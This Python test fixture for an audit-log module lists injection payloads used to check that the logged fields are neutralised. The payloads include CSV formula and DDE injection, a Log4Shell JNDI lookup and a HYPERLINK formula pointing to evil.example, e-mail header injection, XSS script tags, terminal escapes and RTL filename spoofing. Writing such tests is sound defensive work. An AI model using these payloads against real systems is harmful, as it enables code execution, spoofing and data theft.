"""Texts that try to be more than text, by their numbers in the catalogue (2.5 E)."""

from __future__ import annotations

from typing import TYPE_CHECKING

from kc_exchange.impersonation.audit import Event
from kc_exchange.impersonation.people import Person
from tests.impersonation.audit.history import ANNA

if TYPE_CHECKING:
    from kc_exchange.models import AuditEvent
    from tests.impersonation.audit.history import History

TEXTS = {
    "E1 line": 'fine\r\n{"event":{"outcome":"success"},"user":{"name":"eve"}}\r\n',
    "E1 line separators": "a\u2028b\u2029c\x85d\x0be\x0cf\x1eg",
    "E2 syslog": 'a"] [x@1 y="z"]\\',
    "E3 CEF": "a|b=c\\d\\|e\nCEF:0|x|y|z|",
    "E4 formula": '=HYPERLINK("http://evil.example","click")',
    "E4 plus": "+1+1",
    "E4 minus": "-1+cmd|' /C calc'!A0",
    "E4 at": "@SUM(1+1)",
    "E4 tab": "\t=1+1",
    "E4 carriage return": "\r=1+1",
    "E4 line feed": "\n=1+1",
    "E4 blanks": "   =1+1",
    "E4 full width": "\uff1d1+1",
    "E4 separators": 'a";=1+1,=1+1\t=1+1',
    "E5 e-mail": "hello\r\nBcc: eve@evil.example\r\n\r\nbody",
    "E6 terminal": "\x1b[2J\x1b]0;title\x07\x9b31m\x08\x7f",
    "E6 order of letters": "safe\u202egnp.exe\u2066\u200f",
    "E7 HTML": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "E11 lookup": "${jndi:ldap://evil.example/a}",
    "E13 formats": "%s %n %(name)s {0} {0.__class__} {{7*7}}",
    "E14 halves": "a\ud800b\udfffc\udce9",
    "NUL": "a\x00b",
    "beyond the BMP": "\U0001f600 Zürich 東京",
}
SIZE = 100_000


def attempt(history: History, text: str) -> AuditEvent:
    """Record a refused start in which all that a stranger writes is `text`."""
    details = {
        "reason": text,
        "ticket": text,
        "ua": text,
        "path": text,
        "method": text,
        "route": text,
        "ip": text,
        "extra": {"nested": [text]},
    }
    name = Person(id="2", name=text, issuer=text, subject=text)
    event = Event(
        type="start.denied",
        outcome="failure",
        code="self",
        operator=name,
        target=ANNA,
        details=details,
    )
    return history.record(event)
